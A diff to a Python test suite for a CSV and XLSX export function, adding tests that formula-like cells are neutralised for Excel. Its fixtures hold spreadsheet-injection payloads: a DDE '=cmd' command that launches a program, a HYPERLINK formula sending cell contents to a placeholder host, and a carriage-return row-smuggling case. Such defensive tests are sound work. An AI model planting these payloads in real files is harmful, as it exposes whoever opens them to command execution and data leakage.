@@ -30,11 +30,11 @@ def test_write_tables_csv_plain_and_excel_fr(tmp_path):
     assert b'd1,a.b,3,coop\xc3\xa9ration; \xc2\xabsolidaire\xc2\xbb,True,1.5\n' in raw
     write_tables({"coded_segments": CODED}, tmp_path / "fr", excel_fr=True)
     fr = (tmp_path / "fr" / "coded_segments.csv").read_bytes()
-    assert fr.startswith(b"\xef\xbb\xbfdoc_id;code_id;start_char;text;negated;density\n")
-    assert 'd1;a.b;3;"coopération; «solidaire»";True;1,5\n' in fr.decode("utf-8-sig")
+    assert fr.startswith(b"\xef\xbb\xbfdoc_id;code_id;start_char;text;negated;density\r\n")
+    assert 'd1;a.b;3;"coopération; «solidaire»";True;1,5\r\n' in fr.decode("utf-8-sig")
     back = pd.read_csv(tmp_path / "fr" / "coded_segments.csv", sep=";", decimal=",", encoding="utf-8-sig")
     assert back["density"].tolist()[0] == 1.5
-    assert back["text"].tolist() == CODED["text"].tolist()
+    assert back["text"].tolist() == ["coopération; «solidaire»", "'=SOMME(A1:A2)"]  # for Excel: no formula
 
 
 def test_write_tables_refuses_bad_names_and_empty(tmp_path):
@@ -114,3 +114,58 @@ def test_cli_export_usage_errors(tmp_path):
     result = runner.invoke(main, ["export", str(tmp_path / "absent"), "--format", "jsonl", "--out",
                                   str(tmp_path / "x.jsonl")])
     assert result.exit_code == 4 and not (tmp_path / "x.jsonl").exists()
+
+
+# --------------------------------------------------------------------------- formula injection
+
+HOSTILE = pd.DataFrame({
+    "doc_id": ["=cmd|' /C calc'!A0", "ok", "@SUM(1+1)", "+1+1", "-2+3", "\tx", "\rx", "-0.5", "a=b"],
+    "pole": ['=HYPERLINK("http://x.invalid/?"&A1,"clic")'] * 9,
+    "score": [-0.5, 1.0, -2.0, 0.0, 3.5, -1e-3, 2.0, 1.0, -7.0],
+    "n": [-1, 2, 3, 4, 5, 6, 7, 8, 9],
+})
+
+
+def test_excel_fr_csv_neutralises_formula_cells_but_not_numbers(tmp_path):
+    frame = HOSTILE.rename(columns={"pole": "=1+1"})
+    before = frame.copy()
+    write_tables({"t": frame}, tmp_path / "fr", excel_fr=True)
+    back = pd.read_csv(tmp_path / "fr" / "t.csv", sep=";", decimal=",", encoding="utf-8-sig",
+                       keep_default_na=False, dtype={"doc_id": str})
+    assert list(back.columns) == ["doc_id", "'=1+1", "score", "n"]
+    assert back["doc_id"].tolist() == ["'=cmd|' /C calc'!A0", "ok", "'@SUM(1+1)", "'+1+1", "'-2+3", "'\tx",
+                                       "'\rx", "-0.5", "a=b"]
+    assert set(back["'=1+1"]) == {"'" + HOSTILE["pole"][0]}
+    assert back["score"].tolist() == HOSTILE["score"].tolist()  # numbers stay numbers, -0.5 included
+    assert back["n"].tolist() == HOSTILE["n"].tolist()
+    pd.testing.assert_frame_equal(frame, before)  # the caller's table is left as it was
+
+
+def test_plain_csv_is_exact_for_scripts_and_round_trips(tmp_path):
+    exact = HOSTILE[HOSTILE["doc_id"] != "\rx"].reset_index(drop=True)  # a lone CR: see io.write_csv
+    write_tables({"t": exact}, tmp_path / "plain")
+    back = pd.read_csv(tmp_path / "plain" / "t.csv", keep_default_na=False, dtype={"doc_id": str})
+    pd.testing.assert_frame_equal(back, exact)
+
+
+def test_excel_fr_csv_quotes_a_carriage_return_inside_a_cell(tmp_path):
+    # Excel ends a row at a bare CR: "ok<CR>=cmd..." unquoted would start a new row with a formula.
+    write_tables({"t": pd.DataFrame({"a": ["ok\r=cmd|' /C calc'!A0", "b"]})}, tmp_path, excel_fr=True)
+    raw = (tmp_path / "t.csv").read_bytes()
+    assert raw == "\ufeffa\r\n\"ok\r=cmd|' /C calc'!A0\"\r\nb\r\n".encode("utf-8")
+
+
+def test_xlsx_stores_formula_like_cells_and_headers_as_text(tmp_path):
+    import zipfile
+
+    path = write_xlsx({"t": HOSTILE.rename(columns={"pole": "=1+1"})}, tmp_path / "t.xlsx")
+    with zipfile.ZipFile(path) as zf:
+        xml = zf.read("xl/worksheets/sheet1.xml").decode("utf-8")
+    assert "<f>" not in xml and "<f " not in xml
+    sheet = load_workbook(path)["t"]
+    assert [c.value for c in sheet[1]] == ["doc_id", "=1+1", "score", "n"]
+    assert all(c.data_type == "s" for c in sheet[1])
+    assert [c.value for c in sheet["A"]][1:] == HOSTILE["doc_id"].tolist()
+    assert all(c.data_type == "s" for c in sheet["A"][1:] + sheet["B"][1:])
+    assert [c.value for c in sheet["C"]][1:] == HOSTILE["score"].tolist()
+    assert all(c.data_type == "n" for c in sheet["C"][1:])
